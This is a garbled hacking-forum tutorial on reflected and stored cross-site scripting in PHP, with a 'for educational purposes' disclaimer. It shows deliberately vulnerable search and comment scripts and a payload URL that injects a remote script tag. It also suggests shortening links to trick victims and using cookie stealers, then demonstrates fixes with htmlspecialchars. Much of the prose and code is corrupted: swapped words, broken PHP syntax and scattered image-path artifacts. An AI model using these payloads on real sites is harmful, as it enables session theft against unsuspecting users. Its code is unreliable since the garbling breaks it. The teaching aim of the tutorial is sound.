Hello There, Guest! Login Register
Dismiss this notice
MaDLeeTs is not responsible for any attacks that are carried out on networks, websites or servers.
MaDLeeTs staff members cannot be held responsible.
All information on this forum is for educational purposes only.

XSS Tutorial

  • 0 Vote(s) - 0 Average

10-03-2014, 02:23 AM #1
SickSpawn Offline You have an error in your SQL syntax; ***
TeaM MaDLeeTs
Posts:85 Threads:28 Joined:Sep 2014 Reputation: 2
Mood: Hacker
XSS (Cross Site Scripting)

I posted this on Byteoverflow awhile ago and DECIDED to post it here. I hope to do these for a bunch of different vulnerabilities. In this particular one I will be doing XSS aka Cross Site Scripting. Often overlooked and XSS vulnerabilities is Considered useless. This is FAR from the case. XSS vulns are very Dangerous and Need to be Taken Seriously just like sqli vulns have. The Possibilities When it comes to have endless XSS vulns. I Will Be Discussing the two types of XSS vulns today, Persistent and Non-Persistent. If you have any questions feel free to ask Them here.

Non Persistent

Non Persistent XSS vulnerabilities is the when user input is not sanitized and used Properly Immediately after the request is made??. THESE ARE GeneRally not as Dangerous, But definitely Need to be addressed and Taken Care of. With Persistent Non vulns Would you usually have to trick someone into Clicking the link with the XSS payload. Whereas with persistent vulns the payload is embedded in a normal page and people can stumble Across Even without knowing it, we Will talk more about That later. Here is a simple example of a Non-Persistent XSSvulnerability. I will be doing a simple search script That uses GET for this example.

PHP Code:
<form action "" method "get"
Search Value: <input type 'text' name 'squery'
input type 'submit' name 'search' value 'Search'
if (isset ($ _ GET ['squery'])) {
SEARCH_QUERY = $ _GET ['squery];
echo "Search results for $ SEARCH_QUERY";
// Continue with search code here


So in this simple code what'shappening is it is taking the user input (the search value) then using it in a GET request to later use in a search query. To the average user this looks like a simple search That there is nothing wrong with.

[Image: a4609e0411.png]

But the user input is not being sanitized Properly. The GET request is being used in year echo statement without being sanitized. Means That Could users input HTML and have it execute.

[Image: 9500bd637e.png]

[Image: 99e42c85c5.png]

As you can see I was Able to input HTML, in this case the font tag and have it execute. You can see When I submitted the form the WAS red font. This is a huge problem. This now allows attackers to input thewhich can lead to Javascript Java Drive By's, Cookie Stealing, and many other exploits.

[Image: aa0b4d8035.png]

[Image: 56d7dad37c.png]

Again, you can see the JavaScript That is getting executed. In this case it is just a simple alert, But can it BE any Javascript payload year attacker might have. What Makes Non Persistent Now this is it does not Affect That any person goes to the search page. However if year attacker can get someone to click on a link it can Affect Them.

Now all have to do Would attacker year is get the victim to click a link with Their malicious payload.http://example.com/search.php?squery=<script src = 'link to payload'> </ script> & search = Search

And THEY always Could Shorten the link to make it less Obvious.


Now let's look at Where the vulnerability exists in the code and how to fix it.

$ SEARCH_QUERY = $ _GET ['squery];
echo "Search results for $ SEARCH_QUERY";

So Those two lines of code in what is happening is it's getting the user input via the squery GET value. It is the then echoing it out to the user. We need to Properly sanitize the $ SEARCH_QUERY variable Before we use it in year echo. We can do this using htmlspecialchars or htmlentities.

$ SEARCH_QUERY = htmlspecialchars ($ _ GET ['squery']);
echo "Search results for $ SEARCH_QUERY";


$ SEARCH_QUERY = htmlentities ($ _ GET ['squery']);
echo "Search results for $ SEARCH_QUERY";

[Image: f458616aee.png]

Now you can see INSTEAD of treating the variable as HTML and executing it, it is treating it as a string and Completely ignoring the FACT That it is HTML.

Persistent (Stored)

Persistent Stored XSS vulnerabilities occur or the when user input is Stored on the server (usually in the DB) then later displayed on a page without proper sanitation. Persistent XSS vulnerabilities is much more Dangerous than Non Persistent. THESE types of vulnerabilities do not Require anyone to click a link or Anything. THEY CAN BE browsing a site just like normal and come Across the malicious payload Even without knowing. I will be showing you a simple year with comments example script.Here is the simple script We will be using for year example.

[Image: 4f4bf5ae1f.png]

PHP Code:
<b> <u> <font size=6Title </font> </u> < b
div id "content"
sadjasldjasd asdj asdj asdas <br
d I <br
dsad sadsaldjas <br
dasdnasd ankd Kingdom <br
sadjalkjd ad asd <br
asdlas djas d <br
asd Sadki sadj <br
asd alsdksa dsadj sadj sadsad lj <br
Sadna sdlasd <br
<? php
if (! mysql_connect ("localhost""root""root")) {
die (
'MySQL connection failed');

// Post comment stuff
if (isset ($ _POST ['submitcomment'])) {
comment mysql_real_escape_string ($ _POST ['comment']);
if (
mysql_query ("INSERT INTO xss.comments (comment) VALUES ('". $ comment"')")) {
"Comment posted <br>"
} Else {
"Failed to post comment <br>"

"<b> <u> <font size = 4> Comments </ font> </ u> </ b> <br>"
get_comments mysql_query ("SELECT * FROM xss.comments");
if (
mysql_num_rows ($ get_comments) == 0) {
"No comments to display <br>"
} Else {
while ($mysql_fetch_array ($ get_comments)) {
comment = $ ['comment'];
"$ comment <hr>"

<form action = "" method = "post">
Submit Comment: <br>
<textarea rows = "4 'cols = '50' name = 'comment'> </ textarea> <br>
<input type = 'submit' name = 'submitcomment' value = 'Post Comment'>
</ form>

So again, to the normal user Would this look just like a normal comment section. In reality these symbols is not being sanitized Correctly comments.

[Image: db496ee32b.png]

[Image: 21d5cf1f7c.png]

As you can see the comment I posted is now red. This is very bad, people can now input Their own HTML Where it is Stored in the DB and displayed to anyone That That article looks at.[Image: 1c351614be.png]

[Image: 5a301b2032.png]

That goes to anyone Now That article That Will see alert box. This is a serious issue. THES is obviously not what attackers Would do though. Would THEY embed Their payload with a legit comment and you Would Never Even Know You hit it UNLESS you view the source.

[Image: 96cf8856a2.png]

Now When someone Would That view article Would THEY see nothing fishy, But Would THEY have executed the attackers payload.

[Image: 43dd12eb88.png]

If you inspect element the comment you can see the JavaScript That is getting executed.[img] http://puu.sh/3VGco/2d02404b02.png [/img]

This is a huge issue and many innocent people Makes Victims and open for attack Even without realizing what Happened.

Let's take a look at Where the vulnerability occurs.

while ($ c = mysql_fetch_array ($ get_comments)) {
$ comment = $ c ['comment'];
echo "$ comment <hr>";

Right there is Where the code is fetching the comments from the database and displaying Them to the user. The comments have not being sanitized Properly Before being echo'd out to the users. Again we can use htmlspecialchars or htmlentities to sanitizethe comments.

while ($ c = mysql_fetch_array ($ get_comments)) {
$ comment = htmlspecialchars ($ c ['comment']);
echo "$ comment <hr>";


while ($ c = mysql_fetch_array ($ get_comments)) {
$ comment = htmlentities ($ c ['comment']);
echo "$ comment <hr>";

[Image: bbbd14443a.png]

You can now see That the payload is no longer getting Treated as HTML therefore not gettingexecuted. Keep in mind these symbols is just very simple examples I wrote up for this thread. Next time you have a web app writing or working on Something please keep in mind these symbols. THES has always overlooked Which is probably Why They are so common. You can come Across these symbols everywhere! I was recently doing work for a client and found about 12 XSS vulnerabilities. 8 or 10 of Them being persistent in Their dashboard. Which Meant Could someone have inputted the cookie stealer and wait for Them to load the page in the dashboard with the stealer. Then logged into Their panel for Them Which Would BE BAD THEY WERE STORING considering personal information ofCustomers there. If You Would like me to disclose my Findings in That project let me know and I will be glad to. Anyway, I hope you understand more about Some of XSS now and how to Prevent it. It's a very easy thing to Prevent, But at the same time people always forget about it. Anything I missed or if you have Anything to add feel free to post it here.


[#]Twitter: sickspawnhy
[#] Jabber :[email protected]

Forum Jump:

Users browsing this thread:1 Guest(s)